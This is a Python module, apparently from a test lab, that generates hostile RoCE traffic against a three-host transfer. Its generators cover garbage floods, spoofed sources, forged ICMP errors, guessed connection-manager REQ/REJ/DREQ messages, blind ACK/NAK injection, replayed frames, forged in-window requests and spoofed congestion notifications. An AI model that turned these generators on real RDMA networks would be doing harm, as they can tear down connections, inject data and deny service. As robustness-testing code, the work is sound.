"""The kinds of hostile traffic. Each yields IP packets for as long as it is asked.

A kind may know what it says the attacker knows, and nothing else. None knows a PSN or a key of the transfer: against
an attacker who sees the packets RoCE has no defence.
"""

import collections
import itertools
import random
import socket
import struct
import time

import frames
from frames import BECN, CNP, REP, SEND_MIDDLE, SEND_ONLY, acknowledge, bth, icmp_error, roce, udp

GROUP = "239.77.0.1"
GARBAGE_BYTES, FRAME_PAYLOAD = 44, 4096
OUTSIDE = 198 << 24 | 18 << 16
# The ports of the transfer's server for greetings and datagrams.
TCP_SERVICE, UDP_SERVICE = frames.TCP_SPACE << 16 | 7472, frames.UDP_SPACE << 16 | 7473


class Scene:
    """What a kind may know, and a way to send and receive as the attacker's own host."""

    def __init__(self, network, server_qpn, client_qpn):
        self._network = network
        self.server, self.client, self.attacker = (host.address for host in network.hosts)
        self.server_qpn, self.client_qpn = server_qpn, client_qpn

    def guesses(self):
        """IDs near those of a connection of server and client, as a host knows them that was a peer of both an instant ago."""
        server, client = self.seen_ids()
        for near in itertools.cycle(range(-1024, 3072)):
            yield server + near & 0xffffffff, client + near & 0xffffffff

    def seen_ids(self):
        with self._network.server.tap(1, frames.MAD_PACKET_BYTES) as packets:
            for packet in packets:
                attribute, local, remote = management_of(packet)[:3]
                if attribute in (frames.RTU, frames.DREQ):
                    return remote, local
        raise RuntimeError("no connection was made within a second, so no communication ID was seen")

    def capture(self, count):
        """Packets of the transfer as they arrive at the server, one frame each."""
        with self._network.server.tap(2) as packets:
            found = [part for packet in itertools.islice(packets, count) if packet[12:16] == socket.inet_aton(self.client)
                     for part in frames.cut_segments(packet)]
        if not found:
            raise RuntimeError("no packet of the transfer was seen within two seconds")
        return found

    def connect(self):
        """A handshake of the attacker's own host; the server's queue pair and the PSN it expects."""
        own_id, attacker = random_id(), self._network.attacker
        for _ in range(10):
            with attacker.tap(0.3, frames.MAD_PACKET_BYTES) as packets:
                attacker.send([frames.connect_request(own_id, TCP_SERVICE, random_id(63), 0x000500, self.attacker, self.server)])
                for packet in packets:
                    attribute, server_id, remote, _, qpn, _, psn = management_of(packet)
                    if (attribute, remote) == (REP, own_id):
                        self._confirm(own_id, server_id, qpn >> 8)
                        # The REQ named the PSN the attacker expects, the server's REP the one the server does.
                        return qpn >> 8, psn >> 8
        raise RuntimeError("the server did not accept a connection of the attacker's own host")

    def _confirm(self, own_id, server_id, qpn):
        send = self._network.attacker.send
        send([frames.management(self.attacker, self.server, frames.RTU, own_id, struct.pack(">II", own_id, server_id))])
        # The greeting is acknowledged, so that the server has nothing to retransmit.
        time.sleep(0.05)
        send([acknowledge(self.attacker, self.server, qpn, frames.REQ_PSN, frames.ACK, 1)])


def management_of(packet):
    return struct.unpack_from(">16xH6xIIIIII", packet, frames.BEFORE_MAD_BYTES)


def random_id(bits=32):
    return random.randrange(1, 1 << bits)


def random_address():
    """Outside the network of the three hosts, so that nobody is asked for by ARP."""
    return frames.ip_text(OUTSIDE + random.randrange(1, 1 << 17))


def every(make):
    return map(make, itertools.count())


def some(count, make):
    return itertools.cycle([make(number) for number in range(count)])


def garbage(source, to, ports=(frames.ROCE_PORT, frames.ROCE_PORT), length=GARBAGE_BYTES):
    return udp(source, to, random.randbytes(length), ports)


def middle(scene, payload):
    return bth(SEND_MIDDLE, scene.server_qpn, random_id(24)) + payload


def wrong_icrc(scene):
    payload = random.randbytes(FRAME_PAYLOAD)
    good = [roce(scene.client, scene.server, middle(scene, payload)) for _ in range(256)]
    return itertools.cycle([packet[:-1] + bytes([packet[-1] ^ random.randrange(1, 256)]) for packet in good])


def request_of(scene, source, communication_id, **more):
    return frames.connect_request(communication_id, TCP_SERVICE, random_id(63), random.randrange(2, 1 << 24), source, scene.server, **more)


def rejected_requests(scene):
    while True:
        source, own_id = random_address(), random_id()
        yield request_of(scene, source, own_id, timeout=31)
        yield frames.reject(source, scene.server, own_id, own_id, 0, 0)


def guessed_replies(scene):
    for server_id, client_id in scene.guesses():
        yield frames.reject(scene.client, scene.server, server_id, 0 if server_id % 2 else client_id, server_id, 1)
        yield frames.reply(scene.server, scene.client, server_id, client_id, 0xabcdef, random_id(63))


def guessed_ends(scene):
    for server_id, client_id in scene.guesses():
        for source, to, local, remote, qpn in ((scene.client, scene.server, client_id, server_id, scene.server_qpn),
                                               (scene.server, scene.client, server_id, client_id, scene.client_qpn)):
            yield frames.management(source, to, frames.DREQ, remote, struct.pack(">III", local, remote, qpn << 8))


def resolution_request(scene, source, own_id):
    body = struct.pack(">IHHQ", own_id, 0xffff, 0, UDP_SERVICE) + frames.address_header(source, scene.server)
    return frames.management(source, scene.server, frames.SIDR_REQ, own_id, body)


def blind(scene, syndrome):
    return acknowledge(scene.server, scene.client, scene.client_qpn, random_id(24), syndrome, random_id(24))


def notification(scene, source, qpn):
    return roce(source, scene.client, bth(CNP, BECN | qpn, 0) + bytes(16))


def behind_gaps(scene):
    pairs = [scene.connect() for _ in range(8)]
    return itertools.cycle([roce(scene.attacker, scene.server, bth(SEND_ONLY, qpn, psn + 1 + ahead) + bytes(1024))
                            for ahead in range(640) for qpn, psn in pairs])


VICTIMS = ("198.51.100.9", "239.1.2.3", "255.255.255.255")
# What each sends, whether the ICRC of all packets is good, or of none, or neither, and the packets.
Kind = collections.namedtuple("Kind", "about is_good packets")
KINDS = {
    "garbage": Kind("Random bytes from one address that does not exist.", False,
                    lambda s: every(lambda _: garbage("198.18.7.7", s.server))),
    "one-hash": Kind("Random bytes from 16000 sources whose address + port is one number, the hash of Java's InetSocketAddress.", False,
                     lambda s: every(lambda n: garbage(frames.ip_text(OUTSIDE + n % 16000), s.server, (60000 - n % 16000, 4791)))),
    "random-sources": Kind("Random bytes, each from another address and port.", False,
                           lambda s: every(lambda _: garbage(random_address(), s.server, (random.randrange(1024, 65536), 4791)))),
    "noise": Kind("Random bytes as long as a frame, in the name of the client: the interface may join them with good frames.", False,
                  lambda s: some(64, lambda _: garbage(s.client, s.server, length=frames.BTH_BYTES + FRAME_PAYLOAD + frames.ICRC_BYTES))),
    "truncated": Kind("Frames of the transfer, in the name of the client, cut off after 1 to 40 bytes.", False,
                      lambda s: every(lambda n: udp(s.client, s.server, middle(s, bytes(32))[:n % 40 + 1]))),
    "wrong-icrc": Kind("Whole frames in the name of the client, right queue pair, any PSN, wrong ICRC.", False, wrong_icrc),
    "icmp-fragmentation": Kind('ICMP "fragmentation needed", MTU 576, to the client about its way to the server.', None,
                               lambda s: every(lambda _: icmp_error(random_address(), s.client, s.server, 4, 576))),
    "icmp-unreachable": Kind('ICMP "port unreachable" to both sides, in the name of the other.', None,
                             lambda s: itertools.cycle([icmp_error(source, to, source, 3) for source, to in (
                                 (s.server, s.client), (s.client, s.server))])),
    "req": Kind("REQ for a port that listens, each from another address.", True,
                lambda s: every(lambda _: request_of(s, random_address(), random_id()))),
    "req-rej": Kind("REQ with the longest timeouts and a REJ of it before it can be answered, each pair from another address.", True,
                    rejected_requests),
    "req-other-gid": Kind("REQ from the attacker's true address whose primary local GID is a victim, a group, all hosts or the server.", True,
                          lambda s: every(lambda n: request_of(s, s.attacker, random_id(), named=(*VICTIMS, s.server)[n % 4]))),
    "rep-rej-guessed": Kind("REJ to the server and REP to the client with IDs near those of an earlier connection, sender ID 0 included.", True,
                            guessed_replies),
    "dreq-guessed": Kind("DREQ in the name of each side, right queue pair, IDs near those of an earlier connection.", True, guessed_ends),
    "sidr": Kind("SIDR_REQ for a service that exists, each from another address.", True,
                 lambda s: every(lambda _: resolution_request(s, random_address(), random_id()))),
    "multicast": Kind("Random bytes, and good datagrams with a wrong queue key, to a group that the server has joined.", None,
                      lambda s: every(lambda n: garbage(random_address(), GROUP) if n % 2 else frames.datagram(
                          random_address(), GROUP, 0xffffff, 0x0badcafe, bytes(GARBAGE_BYTES - 24)))),
    "long-datagrams": Kind("Good datagrams with the right queue key to that group, longer than the receives posted for them.", True,
                           lambda s: some(64, lambda n: frames.datagram(s.attacker, GROUP, 0xffffff, frames.CM_QUEUE_KEY, bytes(2048), n))),
    "payload": Kind("No frames: the messages of the transfer hold what looks like frames, behind every boundary a smaller MTU has.", None,
                    lambda s: iter(())),
    "replay": Kind("Frames of the transfer, captured at the server a moment ago, unchanged.", True, lambda s: itertools.cycle(s.capture(64))),
    "blind-naks": Kind("PSN sequence and RNR NAKs to the client, right queue pair and ICRC, PSNs over the whole range.", True,
                       lambda s: every(lambda n: blind(s, (frames.PSN_NAK, frames.RNR_NAK)[n % 2]))),
    "blind-acks": Kind("ACKs to the client, right queue pair and ICRC, PSNs over the whole range.", True,
                       lambda s: every(lambda _: blind(s, frames.ACK))),
    "forged-requests": Kind("Requests to the server, right queue pair and ICRC, PSNs in steps of 1000 so that some lie inside the window.", True,
                            lambda s: (roce(s.client, s.server, bth(SEND_MIDDLE, s.server_qpn, psn) + b"\xee" * 256)
                                       for psn in itertools.count(random_id(24), 1000))),
    "cnp-other-address": Kind("CNPs to the client, right queue pair and ICRC, each from another address.", True,
                              lambda s: every(lambda _: notification(s, random_address(), s.client_qpn))),
    "cnp-peer": Kind("CNPs to the client in the name of the server, right ICRC, by turns for the right queue pair and for any.", True,
                     lambda s: every(lambda n: notification(s, s.server, s.client_qpn if n % 2 else random_id(24)))),
    "gaps": Kind("A peer that connected honestly with eight queue pairs and sends what follows a gap it never closes.", True, behind_gaps),
}
